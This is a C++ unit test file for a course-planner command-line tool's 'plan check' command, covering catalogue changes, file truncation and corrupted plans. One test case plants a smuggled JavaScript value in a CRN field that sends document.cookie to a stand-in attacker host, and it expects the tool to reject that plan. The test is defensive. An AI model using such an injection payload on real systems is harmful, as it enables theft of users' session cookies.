#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <functional>
#include <nlohmann/json.hpp>

#include "catalogue/catalogue_files.h"
#include "catalogue/file_system.h"
#include "cli/cli_runner.h"
#include "files/dkf_format.h"
#include "files/plan_io.h"
#include "planner/planner.h"
#include "support/catalogue_fixture.h"
#include "support/temp_folder.h"
#include "text/cp1254.h"

namespace kiremo::cli {
namespace {

using testing_support::CatalogueFixture;
using testing_support::CliResult;
using testing_support::RunCli;
using testing_support::Section;

std::vector<catalogue::SectionValues> Term(std::string elk_day, std::string elk_room, bool second_open) {
  std::vector<catalogue::SectionValues> sections = {
      Section("21554", "ELK 102E", "Ali Veli", std::move(elk_day), "1430/1629", "EEB", std::move(elk_room))};
  if (second_open) sections.push_back(Section("30002", "ELK 201", "Ece Ay", "Pazartesi", "1430/1529", "FEB", "F1"));
  return sections;
}

// A plan with ELK 102E in row 1 and ELK 201 in row 2, saved from the first
// term; each case then gives the catalogue a second term or spoils something.
class PlanCheckCommandTest : public ::testing::Test {
 protected:
  void SetUp() override {
    store.Department("ELK", Term("Sali", "D201", true));
    SaveCommittedPlan();
  }

  // Commits ELK 102E in row 1 and ELK 201 in row 2 from the catalogue as it
  // is now, and saves the plan.
  void SaveCommittedPlan() {
    catalogue::CatalogueQuery query1(store.ConnectionString());
    planner::Planner planner(query1, folder.Path(), "http://127.0.0.1:9/", "Plan");
    planner.Sifirla();
    for (const auto& [row, course, crn] : {std::tuple{1, "ELK 102E", "21554"}, std::tuple{2, "ELK 201", "30002"}}) {
      planner.SelectDepartment(row, planner.Row(row).department.IndexOf("ELK"));
      planner.DersKoduEkle(row);
      planner.SelectCourse(row, planner.Row(row).course.IndexOf(course));
      planner.AcilanDersEkle(row);
      const auto& items = planner.Row(row).section.items;
      for (std::size_t k = 0; k < items.size(); ++k) {
        if (items[k].crn == crn) planner.SelectSection(row, static_cast<int>(k));
      }
      planner.KaydetClick(row);
    }
    files::WritePlanFile(plan, planner.Snapshot());
  }

  CliResult Check(bool json) {
    std::vector<std::string> words = {"--folder", folder.Path(), "plan", "check", plan};
    if (json) words.push_back("--json");
    return RunCli(words);
  }

  testing_support::TempFolder folder;
  CatalogueFixture store{folder.Path()};
  std::string plan = folder / "plan.dkf";
};

TEST_F(PlanCheckCommandTest, ExitStatusAndReportFollowTheCatalogue) {
  using nlohmann::json;
  const json unchanged_elk = {
      {"row", 1}, {"course", "ELK 102E"}, {"crn", "21554"}, {"status", "unchanged"}, {"changes", json::array()}};
  const json unchanged_second = {
      {"row", 2}, {"course", "ELK 201"}, {"crn", "30002"}, {"status", "unchanged"}, {"changes", json::array()}};
  struct Case {
    const char* name;
    std::function<void()> second_term;
    int status;
    json report;  // null: nothing on the standard output
  };
  const std::vector<Case> cases = {
      {"same term", [] {}, 0, {{"courses", {unchanged_elk, unchanged_second}}, {"clashes", json::array()}}},
      {"moved and closed",
       [&] { store.Refill("ELK", Term("Pazartesi", "D305", false)); },
       1,
       {{"courses",
         {{{"row", 1},
           {"course", "ELK 102E"},
           {"crn", "21554"},
           {"status", "changed"},
           {"changes",
            {{{"field", "gun"}, {"meeting", 1}, {"old", "Salı"}, {"new", "Pazartesi"}},
             {{"field", "derslik"}, {"meeting", 1}, {"old", "D201"}, {"new", "D305"}}}}},
          {{"row", 2}, {"course", "ELK 201"}, {"crn", "30002"}, {"status", "vanished"}, {"changes", json::array()}}}},
        {"clashes", json::array()}}},
      // The CRN goes into the add/drop script: such a plan is not read.
      {"a CRN that carries code",
       [&] {
         planner::PlanSnapshot spoiled = files::DecodePlan(ReadWholeFile(plan));
         spoiled.rows[0]->CRN = "1,fetch('https://evil.example/?c='+document.cookie)";
         WriteFileAtomically(plan, files::EncodePlan(spoiled));
       },
       2, nullptr},
      {"no catalogue", [&] { std::filesystem::remove(folder.Path() + std::string(catalogue::kMainCatalogue)); }, 2,
       nullptr},
      {"not a plan", [&] { std::ofstream(plan, std::ios::binary | std::ios::trunc) << "x"; }, 2, nullptr},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    c.second_term();
    const CliResult json_run = Check(true);
    EXPECT_EQ(json_run.status, c.status) << json_run.err;
    if (c.report.is_null()) {
      EXPECT_EQ(json_run.out, "");
      EXPECT_NE(json_run.err, "");
    } else {
      EXPECT_EQ(json::parse(json_run.out), c.report);
    }
    EXPECT_EQ(Check(false).status, c.status);
  }
}

// A schedule file keeps 255 bytes of a text and nothing after a zero byte:
// a plan saved a moment ago must not fail its own check for that.
TEST_F(PlanCheckCommandTest, WhatTheFileCutsOffIsNoChange) {
  catalogue::SectionValues long_texts = Term("Sali", "D201", true)[0];
  long_texts.ders_adi = std::string(300, 'a');
  long_texts.ogretmen = std::string(254, 'b') + "cd";
  long_texts.derslik = std::string(
      "D2\0"
      "01",
      5);
  store.Refill("ELK", {long_texts, Term("Sali", "D201", true)[1]});
  SaveCommittedPlan();
  const CliResult result = Check(false);
  EXPECT_EQ(result.status, 0) << result.out;
  EXPECT_EQ(result.out, "Programdaki dersler değişmemiş.\n");

  // A change inside what the file keeps is still one.
  long_texts.ders_adi = std::string(254, 'a') + "x";
  store.Refill("ELK", {long_texts, Term("Sali", "D201", true)[1]});
  EXPECT_EQ(Check(false).status, 1);
}

TEST_F(PlanCheckCommandTest, TextReportNamesTheChanges) {
  store.Refill("ELK", Term("Pazartesi", "D201", true));
  const CliResult result = Check(false);
  EXPECT_EQ(result.status, 1);
  // The moved section now meets at ELK 201's hours on Monday.
  EXPECT_EQ(result.out,
            "ELK 102E (21554): Salı -> Pazartesi\n"
            "ELK 102E ile ELK 201 yeni bilgilerle aynı saatlere düşüyor\n");
}

}  // namespace
}  // namespace kiremo::cli
